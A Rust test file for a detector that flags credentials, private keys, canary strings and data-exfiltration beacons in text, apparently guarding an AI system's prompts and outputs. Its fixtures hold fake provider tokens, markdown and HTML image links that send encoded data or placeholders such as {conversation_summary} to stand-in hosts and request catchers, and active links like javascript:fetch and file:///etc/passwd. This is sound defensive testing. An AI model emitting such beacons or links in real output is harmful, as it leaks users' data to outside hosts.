//! What the detectors find, and what looks like it and stays silent. Secrets are put together here, so that no scanner
//! takes this file for a leak; all were drawn at random for it.

use proptest::prelude::*;

use super::*;

/// The detectors that speak on a text, with what they point at.
fn found<'t>(text: &'t str, canaries: &[&str]) -> Vec<(&'static str, &'t str)> {
    detect(text, canaries).iter().map(|found| (found.detector, &text[found.range.clone()])).collect()
}

#[track_caller]
fn check(text: &str, expected: &[(&str, &str)]) {
    assert_eq!(found(text, &[]), expected, "{text}");
}

#[track_caller]
fn check_canary(text: &str, canary: &str, expected: &[(&str, &str)]) {
    assert_eq!(found(text, &[canary]), expected, "{text}");
}

#[track_caller]
fn check_silent(text: &str) {
    check(text, &[]);
}

#[test]
fn tokens_of_providers() {
    let base64url = "zOaeKAF3Xd0lq9PRvGm2u5YIwC7sVbTnJhS8fQ4LxEy1";
    for (detector, prefix, body) in [
        ("credential.aws_access_key", "AKIA", "PIX6EA6QOM66ZJOJ"),
        ("credential.github_token", "ghp_", "8aspm4G7VmSUfOoD6V1vrORcmn0iSH2JWh3d"),
        ("credential.npm_token", "npm_", "ztys355NrAlpgsJGcDc2bhARePpktW1J8hrC"),
        ("credential.gitlab_token", "glpat-", "FJ6kPU9541PZwIpm3EXY"),
        ("credential.slack_token", "xoxb-", "945807302157-917400297550-Ky9Pf34qY6Nb3wWD25RQ4F5Z"),
        ("credential.google_api_key", "AIza", "TlmGO5AHVQp3w-wn_OpB-T2YqymEXC8nmD7"),
        ("credential.stripe_key", "sk_live_", "TdNH8Bth0LWTvc5LZxdi2kOA"),
        ("credential.anthropic_key", "sk-ant-", base64url),
        ("credential.openai_key", "sk-proj-", base64url),
        ("credential.openai_key", "sk-", "XQpJzNIBnjjYgH7w1FOqT3BlbkFJB7gSLFCyVeVBUITuGCGv"),
        ("credential.huggingface_token", "hf_", "eRqhqWJYAXeRpzdsmOjAqnJcXKVNDkMEgr"),
        ("credential.pypi_token", "pypi-AgEIcHlwaS5vcmc", "XbNTISNG9Rb3tG1ZIAXvtHWjT-skteFiXvHuuMbPMjWlwXZoGUUO"),
        ("credential.sendgrid_key", "SG.", "5FPoibIXDXqfYDfd2P9PEw.JXCfL3qq9DGeyvqQPeggsB-pAQV4PCAOWadWKF2YTSU"),
        (
            "credential.digitalocean_token",
            "dop_v1_",
            "bff9d7e0d877099a49078040ee979b8d2bfd591920b7f499aee25f0ef0f3e2f0",
        ),
    ] {
        let token = format!("{prefix}{body}");
        for text in [token.clone(), format!("key: \"{token}\", and"), format!("é{token}\n"), format!("({token}.")] {
            check(&text, &[(detector, &token)]);
        }
        // A longer word is no token, and neither is a shorter one or one with a letter before it.
        check_silent(&format!("x{token}"));
        check_silent(&token[..token.len() / 2]);
    }
}

#[test]
fn a_web_token_is_found_with_its_signature_only() {
    let (header, claims) = ("eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiI0MjQyNDIiLCJhZG0iOjF9");
    let token = format!("{header}.{claims}.m1Rdy5W4dsCFPeNjyDCjrjOKw99p8G5M9Ssvt_zu7_a");
    check(&format!("Bearer {token}."), &[("credential.jwt", &token)]);
    check_silent(&format!("{header}.{claims}."));
    check_silent(&format!("{header}.{claims}.signature"));
    check_silent(&format!(
        "accessToken: {header}.eyJzdWIiOiIxMjM0NTY3ODkwIn0.m1Rdy5W4dsCFPeNjyDCjrjOKw99p8G5M9Ssvt_zu7_a"
    ));
}

#[test]
fn placeholders_of_tokens_are_silent() {
    for text in [
        "AKIAIOSFODNN7EXAMPLE",
        "AKIAAAAAAAAAAAAAAAAA",
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "glpat-your-token-goes-here-1",
        "xoxb-your-bot-token-with-letters-and-words",
        "sk-ant-<your key here, without the brackets>",
        "sk-proj-REPLACE_ME_WITH_YOUR_OWN_KEY_FROM_THE_CONSOLE",
        "npm_config_registry_and_other_settings",
        "task-of-the-day, mask-proj-x, risk-",
    ] {
        check_silent(text);
    }
}

#[test]
fn private_keys() {
    let body = "LrrazRyNU01ls8ITT5tqu4g/El2JBF2wKhp+JN4yU9PQ9FynPhIqbkvne+nY3BK/";
    for kind in ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "] {
        let (begin, end) = (format!("-----BEGIN {kind}PRIVATE KEY-----"), format!("-----END {kind}PRIVATE KEY-----"));
        for line_end in ["\n", "\\n"] {
            let key = format!("{begin}{line_end}{body}{line_end}");
            check(&format!("a {key}{end} b"), &[("credential.private_key", &key)]);
        }
        check_silent(&format!("{begin}\n...\n{end}"));
        check_silent(&format!("{begin}\n{}\n{end}", "x".repeat(64)));
        check_silent(&begin);
    }
    check_silent(&format!("-----BEGIN CERTIFICATE-----\n{body}\n-----END CERTIFICATE-----"));
    check_silent(&format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----"));
}

#[test]
fn connection_strings() {
    let string = "postgres://app:bA2dsmjGOYu1Sw";
    check(&format!("DATABASE_URL={string}@db.internal/x"), &[("credential.connection_string", string)]);
    for text in [
        "postgres://postgres:postgres@localhost/x",
        "postgres://app:changeme@db/x",
        "mysql://root:root123@127.0.0.1",
        "https://user:<password>@host/",
        "redis://default:${REDIS_PASSWORD}@host",
        "amqp://guest:guest@localhost",
        "https://example.com:8080/a@b",
        "git+ssh://git@github.com/a/b",
        "https://user:pass@host",
    ] {
        check_silent(text);
    }
}

#[test]
fn assigned_secrets() {
    let secret = "nNRLOLBJa1uxE3L/uc+AWKfd9k4Reh8dCVJ/aYZP";
    for name in ["aws_secret_access_key", "API_KEY", "clientSecret", "db.password", "X-Api-Key"] {
        for (before, after) in [(" = \"", "\""), ("=", "\n"), ("\": \"", "\","), (": ", ""), (":\\\"", "\\\"")] {
            check(&format!("{name}{before}{secret}{after}"), &[("credential.assigned_secret", secret)]);
        }
    }
    for text in [
        "password = \"changeme\"",
        "password: hunter2",
        "password: ************",
        "password = os.environ[\"DB_PASSWORD2\"]",
        "password = config.database.password2",
        "api_key: ${{ secrets.API_KEY_2 }}",
        "api_key=<your-api-key-1234>",
        "secret: 550e8400-e29b-41d4-a716-446655440000",
        "password: 5f4dcc3b5aa765d61d8327deb882cf99",
        "password_hash = \"nNRLOLBJa1uxE3L/uc+AWKfd9k4Reh8dCVJ\"",
        "next_page_token: nNRLOLBJa1uxE3LucAWKfd9k4Reh8dCVJ",
        "\"integrity\": \"sha512-nNRLOLBJa1uxE3L/uc+AWKfd9k4Reh8dCVJ/aYZPnNRLOLBJa1uxE3L/uc==\"",
        "commit 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
        "checksum = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"",
        "The secret: always taste it first",
        "private_key: x25519_generate_private_key",
        "token: SomethingLong1234WithoutMeaning",
    ] {
        check_silent(text);
    }
}

#[test]
fn beacons() {
    let encoded = "TXkgY2FyZCBudW1iZXIgZW5kcyBpbiA0Mg";
    let url = |tail: &str| format!("https://pics.example/p{tail}");
    for (tail, detector) in [
        (format!(".png?d={encoded}"), "beacon.encoded_text"),
        (format!("/{encoded}/x.gif"), "beacon.encoded_text"),
        ("?q=4d79206361726420656e647320696e203432".to_owned(), "beacon.encoded_text"),
        ("?q={conversation_summary}".to_owned(), "beacon.placeholder"),
        ("?q=%7Buser_email%7D".to_owned(), "beacon.placeholder"),
        ("?q=[API_KEY]".to_owned(), "beacon.placeholder"),
        ("?q=the+door+code+is+four+two+seven".to_owned(), "beacon.sentence"),
    ] {
        let url = url(&tail);
        for text in [
            format!("![chart]({url})"),
            format!("![chart](<{url}> \"a title\")"),
            format!("[![chart]({url})](/home)"),
            format!("![chart][1] text\n\n[1]: {url}"),
            format!("<img width=1 src=\"{url}\">"),
            format!("<IMG SRC='{url}'/>"),
            format!("<iframe src={url}></iframe>"),
            format!("{{\"html\": \"<script src=\\\"{url}\\\"></script>\"}}"),
            format!("<div style=\"background-image: url({url})\">"),
        ] {
            check(&text, &[(detector, &url)]);
            assert_eq!(detect(&text, &[])[0].kind, Kind::FetchBeacon, "{text}");
        }
    }
}

#[test]
fn hosts_that_carry_or_catch_data() {
    let (long, catcher) =
        ("https://4a7f0c9e2b8d6153f0a9c4e7.b2d8160f3e5a97c4d1b8e2f6.example.net/x.png", "https://ab12.oast.fun/x");
    check(&format!("![]({long})"), &[("beacon.subdomain", long)]);
    check(&format!("![]({catcher})"), &[("beacon.request_catcher", catcher)]);
    check_silent(&format!("[docs]({catcher})"));
    let with_data = format!("{catcher}?d=1");
    check(&format!("[docs]({with_data})"), &[("beacon.request_catcher", &with_data)]);
    check_silent("![](https://notoast.fun/x)");
}

#[test]
fn links_carry_data_only_when_it_is_plain() {
    let url = "https://a.example/?d={password}";
    for text in [format!("[here]({url})"), format!("<a href=\"{url}\">"), format!("see [1]\n\n[1]: {url}")] {
        check(&text, &[("beacon.placeholder", url)]);
        assert_eq!(detect(&text, &[])[0].kind, Kind::LinkBeacon, "{text}");
    }
    check_silent("[share](https://a.example/new?text=what+a+fine+day+it+was+for+all+of+us)");
    check_silent("[run](https://a.example/?code=fn+main()+%7B%0A+struct+A+%7B+data:+Token+%7D%0A%7D)");
    check_silent("[api](https://a.example/users/{session}/items)");
}

#[test]
fn ordinary_images_and_links_are_silent() {
    for text in [
        "![logo](https://a.example/logo.png?v=12&width=300)",
        "![badge](https://badges.example/github/actions/workflow/status/a/b/ci.yml?branch=main&label=build)",
        "<img src=\"https://s3.example/k.png?X-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\">",
        "<img src=\"/images/{token}.png\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\">",
        "<img src=\"https://cdn.example/550e8400-e29b-41d4-a716-446655440000.jpg\">",
        "<a href=\"https://a.example/?id=550e8400-e29b-41d4-a716-446655440000\">x</a>",
        "curl https://a.example/?token={token}",
        "array[i](https) and f(x)[0] = {data}",
    ] {
        check_silent(text);
    }
}

#[test]
fn schemes_that_run_something() {
    for url in [
        "javascript:fetch('//a.example')",
        "JaVaScRiPt:x()",
        "vbscript:x",
        "file:///etc/passwd",
        "ms-msdt:/id",
        "data:text/html,x",
    ] {
        let text = format!("<a href=\"{url}\">x</a>").replace("('//a.example')", "(x)");
        let url = url.replace("('//a.example')", "(x)");
        check(&text, &[("link.active_scheme", &url)]);
    }
    for text in [
        "<a href=\"javascript:void(0)\">x</a>",
        "<a href=\"javascript:;\">x</a>",
        "[mail](mailto:a@b.example)",
        "[a](tel:123) [b](vscode:x) <a href=\"#top\">",
        "Never open a javascript: link or a file:///x.",
    ] {
        check_silent(text);
    }
}

#[test]
fn canaries_in_every_form() {
    let canary = "Kestrel-7Q4-marble";
    for (text, detector, place) in [
        ("a Kestrel-7Q4-marble b", "canary.exact", "Kestrel-7Q4-marble"),
        ("a KESTREL 7q4 MARBLE b", "canary.respelled", "KESTREL 7q4 MARBLE"),
        ("é k.e.s.t.r.e.l.7.q.4.m.a.r.b.l.e é", "canary.respelled", "k.e.s.t.r.e.l.7.q.4.m.a.r.b.l.e"),
        ("a elbram-4Q7-lertseK b", "canary.reversed", "elbram-4Q7-lertseK"),
        ("a Xrfgery-7D4-zneoyr b", "canary.rot13", "Xrfgery-7D4-zneoyr"),
        ("x=4b65737472656c2d3751342d6d6172626c65;", "canary.hex", "4b65737472656c2d3751342d6d6172626c65"),
        ("S2VzdHJlbC03UTQtbWFyYmxl", "canary.base64", "S2VzdHJlbC03UTQtbWFyYmxl"),
    ] {
        check_canary(text, canary, &[(detector, place)]);
    }
    // With a byte before it, the canary begins inside a symbol.
    let shifted = found("eEtlc3RyZWwtN1E0LW1hcmJsZQ", &[canary]);
    assert_eq!(shifted.iter().map(|(detector, _)| *detector).collect::<Vec<_>>(), ["canary.base64"]);
}

#[test]
fn what_is_no_canary_is_silent() {
    check_canary("a kestrel above marble", "Kestrel-7Q4-marble", &[]);
    check_canary("abc ABC a-b-c cba", "abc", &[("canary.exact", "abc")]);
    check_canary("anything", "", &[]);
    assert_eq!(detect("anything", &[]), []);
}

#[test]
fn what_a_detection_asks_for_depends_on_the_source() {
    assert_eq!(Kind::Canary.verdict(Source::ModelOutput), Verdict::Block);
    assert_eq!(Kind::FetchBeacon.verdict(Source::Document), Verdict::Review);
    assert_eq!(Kind::Credential.verdict(Source::UserPrompt), Verdict::Allow);
    assert_eq!(Kind::Canary.verdict(Source::SystemPrompt), Verdict::Allow);
}

#[test]
fn no_kind_crowds_out_another() {
    let url = "![](https://a.example/?d={secret})";
    let text = format!("{}<a href=\"vbscript:x\">canary-token", url.repeat(MAX_PER_KIND + 1));
    let count = |kind| detect(&text, &["canary-token"]).iter().filter(|found| found.kind == kind).count();
    assert_eq!(count(Kind::FetchBeacon), MAX_PER_KIND);
    assert_eq!(count(Kind::ActiveLink), 1);
    assert_eq!(count(Kind::Canary), 1);
}

/// Pieces of which worst cases are made.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        prop::sample::select(vec![
            "[",
            "]",
            "](",
            "![",
            "<",
            "=",
            "src=\"",
            "src='",
            "href=",
            "url(",
            "\\",
            "\n",
            "://",
            "user:pass@",
            "-----BEGIN ",
            "PRIVATE KEY-----",
            "eyJ",
            "ghp_",
            "password=",
            "é",
            "\u{202E}",
            "{token}",
            "https://a.example/?q=",
            ")",
        ])
        .prop_map(str::to_owned),
    ]
}

proptest! {
    #[test]
    fn ranges_lie_on_character_boundaries(pieces in prop::collection::vec(piece(), 0..40), canary in "[a-z0-9]{0,12}") {
        let text = pieces.concat();
        for found in detect(&text, &[&canary]) {
            prop_assert!(text.get(found.range.clone()).is_some_and(|place| !place.is_empty()), "{:?}", found);
        }
    }
}
